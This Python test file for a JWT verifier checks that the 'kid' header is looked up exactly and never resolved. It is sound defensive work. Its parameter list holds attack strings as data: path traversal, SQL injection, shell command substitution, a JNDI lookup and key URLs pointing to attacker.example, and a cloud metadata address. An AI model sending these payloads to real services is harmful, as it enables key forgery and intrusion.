"""A `kid` that wants to be a path, a query, an address or the name of a weak key (RFC 8725, section 3.10)."""

import hmac

import pytest

from mcp_auth_ref.core.errors import MalformedToken, UnknownKey, UnsupportedAlgorithm
from mcp_auth_ref.core.keys import KeySet
from mcp_auth_ref.core.tokens import TokenVerifier
from tests.tokens import CLAIMS, HEADER, ISSUER, KEYS, NOW, RESOURCE, VERIFIER, VERIFIERS, forge, refusal

OWN = KEYS["HS256"].kid


def test_the_kid_of_a_key_we_hold_selects_it() -> None:
    """RFC 7515, section 4.1.4."""
    assert VERIFIER.verify(forge(HEADER | {"kid": OWN}, CLAIMS), now=NOW).subject == "ada"


@pytest.mark.parametrize(
    ("kid", "secret"),
    [
        ("/dev/null", b""),
        ("../../../../../../dev/null", b""),
        ("file:///dev/null", b""),
        ("/proc/sys/kernel/randomize_va_space", b"2\n"),
        ("C:\\Windows\\win.ini", b""),
        ("x' UNION SELECT 'known", b"known"),
        ("x'; DROP TABLE keys; --", b""),
        ("https://attacker.example/key.pem", b"attacker"),
        ("http://169.254.169.254/latest/meta-data", b"attacker"),
        ("|/bin/echo known", b"known"),
        ("$(echo known)", b"known"),
        ("${jndi:ldap://attacker.example/a}", b"attacker"),
        ("{{7*7}}", b"49"),
        ("*", b""),
        ("0", b""),
        ("None", b""),
        ("__class__", b""),
        ("key\x00", b""),
        ("k" * 5000, b""),
        ("\U0001f511", b""),
    ],
    ids=lambda value: value[:40] if isinstance(value, str) else "",
)
def test_a_kid_is_looked_up_and_never_resolved(kid: str, secret: bytes) -> None:
    """RFC 8725, section 3.10: each token is signed with what a careless server would find there."""
    token = forge(HEADER | {"kid": kid}, CLAIMS, sign=lambda message: hmac.digest(secret, message, "sha256"))

    assert refusal(token) == (UnknownKey, {})


@pytest.mark.parametrize("kid", [f"{OWN} ", f" {OWN}", f"{OWN}\n", f"{OWN}=", OWN[:-1], OWN.swapcase(), f"{OWN}\x00"])
def test_a_kid_is_compared_exactly(kid: str) -> None:
    """RFC 7515, section 4.1.4: a case-sensitive string. The right signature does not help."""
    assert refusal(forge(HEADER | {"kid": kid}, CLAIMS)) == (UnknownKey, {})


@pytest.mark.parametrize("kid", [None, "", 0, 7, True, [OWN], {"kid": OWN}], ids=repr)
def test_a_kid_is_a_string(kid: object) -> None:
    """RFC 7515, section 4.1.4."""
    problem = "the kid of its header is not a string with something in it"

    assert refusal(forge(HEADER | {"kid": kid}, CLAIMS)) == (MalformedToken, {"problem": problem})


@pytest.mark.parametrize("algorithm", ["RS256", "ES256", "EdDSA"])
def test_a_kid_cannot_carry_the_algorithm_of_its_key_to_another(algorithm: str) -> None:
    """RFC 8725, section 3.1: both must fit one key."""
    verifier = TokenVerifier(ISSUER, RESOURCE, KeySet([KEYS["HS256"], KEYS[algorithm]]))
    token = forge({"alg": algorithm, "typ": "at+jwt", "kid": OWN}, CLAIMS)

    assert refusal(token, verifier) == (UnsupportedAlgorithm, {"expected": tuple(sorted(["HS256", algorithm]))})


@pytest.mark.parametrize("algorithm", VERIFIERS)
def test_a_refusal_does_not_say_which_kids_there_are(algorithm: str) -> None:
    """Our choice: whoever guesses kids learns nothing."""
    with_kid = forge({"alg": algorithm, "typ": "at+jwt", "kid": "guess"}, CLAIMS)

    assert refusal(with_kid, VERIFIERS[algorithm]) == (UnknownKey, {})
    assert str(UnknownKey()) == "the token's kid names no key known here"
